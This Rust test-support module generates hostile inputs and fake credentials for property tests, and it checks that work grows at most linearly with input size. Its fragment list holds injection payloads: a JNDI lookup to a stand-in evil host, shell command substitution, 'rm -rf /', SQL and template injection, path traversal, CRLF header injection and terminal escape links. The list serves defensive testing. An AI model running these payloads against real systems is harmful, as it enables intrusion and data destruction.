//! What attacks are made of: hostile text, planted secrets, very many cases, and what work costs as its input grows.
//!
//! A program that measures has `stats_alloc::INSTRUMENTED_SYSTEM` as its allocator. Instructions cannot be counted
//! everywhere, so work is measured twice: by what it allocates, which is the same on every run, and by the processor
//! time of its thread, which sees loops that allocate nothing. The second is judged with a wide margin.

use std::{
    env,
    fmt::Write as _,
    process,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread,
    time::Duration,
};

use fastrand::Rng;
use rustix::time::{ClockId, clock_gettime};
use stats_alloc::{INSTRUMENTED_SYSTEM, Region};

/// Pieces that mean something to someone: chats, mail programs, terminals, shells, paths, globs, JSON, ARNs.
pub const FRAGMENTS: &[&str] = &[
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<http://evil.example|Approve>",
    "<https://evil.example>",
    "[a](http://evil.example)",
    "@here",
    "@everyone",
    "https://evil.example/x",
    "www.evil.example",
    "javascript:alert(1)",
    "\r\n",
    "\n\n- approved\n",
    "\r\nBcc: everyone@example.com\r\n",
    "\u{1b}[31m",
    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{200d}",
    "\u{feff}",
    "\u{2028}",
    "\u{2029}",
    "\u{85}",
    "\0",
    "\u{7f}",
    "\u{9b}31m",
    "\u{e0041}",
    "\u{fe0f}",
    "\u{1f4a5}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "а",    // Cyrillic
    "ｓ３", // full width
    "ſ",    // long s
    "K",    // kelvin
    "*",
    "?",
    "**",
    "../",
    "..%2f",
    "%2e%2e%2f",
    "%00",
    "%0d%0a",
    "..\\",
    "./",
    "//",
    "~",
    "${jndi:ldap://evil.example/a}",
    "${aws:username}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "' OR 1=1 --",
    "=cmd()",
    "{{7*7}}",
    "%s%n",
    "```",
    "*_~`",
    "&lt;!channel&gt;",
    "</p><script>",
    "{\"a\":1}",
    "\"",
    "\\",
    "\\u0000",
    "\\\\host\\x",
    "arn:aws:s3:::",
    "arn:aws:ec2:eu-west-1:123456789012:instance/",
    "arn:aws:ec2:*:*:security-group/",
    ":instance/",
    ":security-group/",
    "i-0a1b2c3d",
    "sg-0a1b2c3d",
    "-s3alias",
    "#",
    " ",
    "\t",
    "a",
    "photos-2024",
    "lambda.amazonaws.com",
    "\u{ffff}",
    "\u{10ffff}",
];

/// A few of the [`FRAGMENTS`] and of any characters, now and then very many times.
pub fn hostile(rng: &mut Rng) -> String {
    let mut text = String::new();
    for _ in 0..rng.usize(1..7) {
        match rng.u8(..100) {
            0..60 => text.push_str(fragment(rng)),
            60..98 => text.push(rng.char(..)),
            _ => text.push_str(&fragment(rng).repeat(rng.usize(1..120))),
        }
    }
    text
}

pub fn fragment(rng: &mut Rng) -> &'static str {
    FRAGMENTS[rng.usize(..FRAGMENTS.len())]
}

/// One of a list.
pub fn one<'a, T>(rng: &mut Rng, of: &'a [T]) -> &'a T {
    &of[rng.usize(..of.len())]
}

/// Something that must be seen nowhere.
#[derive(Clone, Debug)]
pub struct Secret {
    pub kind: &'static str,
    pub text: String,
    /// A part that must be nowhere either: a secret of which only the begin is shown is still given away.
    pub part: String,
}

/// Made up, but in the form that the kind has.
pub fn secret(rng: &mut Rng) -> Secret {
    const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    const BASE64: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const URL_SAFE: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut from = |alphabet: &str, length: usize| -> String {
        let letters = alphabet.as_bytes();
        (0..length).map(|_| char::from(letters[rng.usize(..letters.len())])).collect()
    };
    let (kind, text, part) = match from("012345", 1).as_str() {
        "0" => {
            let rest = from(UPPER, 16);
            ("access key", format!("AKIA{rest}"), rest)
        }
        "1" => {
            let rest = from(UPPER, 16);
            ("session's access key", format!("ASIA{rest}"), rest)
        }
        "2" => {
            let text = from(BASE64, 40);
            let part = text[..12].to_owned();
            ("secret key", text, part)
        }
        "3" => {
            let claims = from(URL_SAFE, 90);
            let text = format!("eyJhbGciOiJSUzI1NiJ9.eyJ{claims}.{}", from(URL_SAFE, 86));
            ("JWT", text, claims[..12].to_owned())
        }
        "4" => {
            let lines: Vec<String> = (0..4).map(|_| from(BASE64, 64)).collect();
            let part = lines[0][..12].to_owned();
            let text = format!(
                "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----",
                lines.join("\n")
            );
            ("private key", text, part)
        }
        _ => {
            let text = format!("IQoJb3JpZ2luX2Vj{}==", from(BASE64, 360));
            let part = text[16..28].to_owned();
            ("session token", text, part)
        }
    };
    Secret { kind, text, part }
}

/// How many cases a property is tried with: `PROPTEST_CASES`, or 100,000.
pub fn cases() -> u64 {
    env::var("PROPTEST_CASES").ok().and_then(|cases| cases.parse().ok()).unwrap_or(100_000)
}

/// Tries the property with [`cases`] seeds, always the same ones. The number of a case that fails is its seed.
///
/// Whoever hangs for ten seconds is ended. Nothing else is judged by the clock.
pub fn each_case(property: impl FnMut(&mut Rng)) {
    each_of(cases(), property);
}

/// The same with another number of cases.
pub fn each_of(cases: u64, mut property: impl FnMut(&mut Rng)) {
    let watched = Watched::begin();
    for seed in 0..cases {
        watched.0.store(seed, Ordering::Relaxed);
        property(&mut Rng::with_seed(seed));
    }
}

/// The case that is under way. Names it when the test fails.
struct Watched(Arc<AtomicU64>);

const OVER: u64 = u64::MAX;

impl Watched {
    fn begin() -> Self {
        let case = Arc::new(AtomicU64::new(0));
        let watched = Self(Arc::clone(&case));
        thread::spawn(move || {
            let (mut last, mut seconds) = (0, 0);
            while last != OVER {
                thread::sleep(Duration::from_secs(1));
                let now = case.load(Ordering::Relaxed);
                seconds = if now == last { seconds + 1 } else { 0 };
                last = now;
                if last != OVER && seconds == 10 {
                    complain(&format!("case {last} hangs"));
                    process::abort();
                }
            }
        });
        watched
    }
}

impl Drop for Watched {
    fn drop(&mut self) {
        let case = self.0.swap(OVER, Ordering::Relaxed);
        if thread::panicking() {
            complain(&format!("it was case {case}: Rng::with_seed({case})"));
        }
    }
}

#[allow(clippy::print_stderr, reason = "a test says what it did")]
fn complain(what: &str) {
    eprintln!("{what}");
}

/// What a piece of work took.
#[derive(Clone, Copy, Debug)]
pub struct Cost {
    pub bytes: usize,
    pub allocations: usize,
    /// Of the processor, in this thread.
    pub time: Duration,
}

impl Cost {
    /// Allocations are counted over the whole process: nothing else may run in it.
    pub fn of<R>(mut work: impl FnMut() -> R) -> Self {
        // Whatever is made once and for all is made now.
        drop(work());
        let region = Region::new(&INSTRUMENTED_SYSTEM);
        drop(work());
        let change = region.change();
        let time = (0..3)
            .map(|_| {
                let begun = processor_time();
                drop(work());
                processor_time().saturating_sub(begun)
            })
            .min();
        Self {
            bytes: change.bytes_allocated,
            allocations: change.allocations + change.reallocations,
            time: time.unwrap_or_default(),
        }
    }
}

fn processor_time() -> Duration {
    let now = clock_gettime(ClockId::ThreadCPUTime);
    Duration::new(
        now.tv_sec.try_into().unwrap_or_default(),
        now.tv_nsec.try_into().unwrap_or_default(),
    )
}

/// Bytes for bytes: twice the input may cost a little more than twice, where a buffer grows just then.
const MORE: f64 = 1.6;

/// Four times the input takes four times as long if work is linear, and sixteen times if it is quadratic.
const FOUR_TIMES: f64 = 9.0;

/// Fails if the work grows faster than its input. `make` makes an input of so many parts; it is tried with
/// `most / 16`, `most / 4` and `most`. Returns what was measured, a line for each size.
pub fn grows_at_most_linearly<I, R>(
    what: &str,
    most: usize,
    make: impl Fn(usize) -> I,
    work: impl Fn(&I) -> R,
) -> String {
    let sizes = [most / 16, most / 4, most];
    let costs = sizes.map(|size| {
        let input = make(size);
        Cost::of(|| work(&input))
    });
    let mut told = String::new();
    for (size, cost) in sizes.iter().zip(&costs) {
        let Cost { bytes, allocations, time } = cost;
        // Writing to a string does not fail.
        let _ = writeln!(
            told,
            "{what}: {size} parts: {bytes} bytes in {allocations} allocations, {:.2} ms",
            time.as_secs_f64() * 1e3
        );
    }
    for (small, large) in [(0, 1), (1, 2), (0, 2)] {
        let times = sizes[large] as f64 / sizes[small] as f64;
        let (small, large) = (&costs[small], &costs[large]);
        for (small, large, unit) in [
            (small.bytes.max(1024), large.bytes, "bytes"),
            (small.allocations.max(16), large.allocations, "allocations"),
        ] {
            let ratio = large as f64 / small as f64;
            assert!(ratio <= times * MORE, "{unit} grow {ratio:.1} times:\n{told}");
        }
    }
    let shortest = costs[1].time.max(Duration::from_micros(100));
    let ratio = costs[2].time.as_secs_f64() / shortest.as_secs_f64();
    assert!(ratio <= FOUR_TIMES, "time grows {ratio:.1} times with four times the input:\n{told}");
    told
}
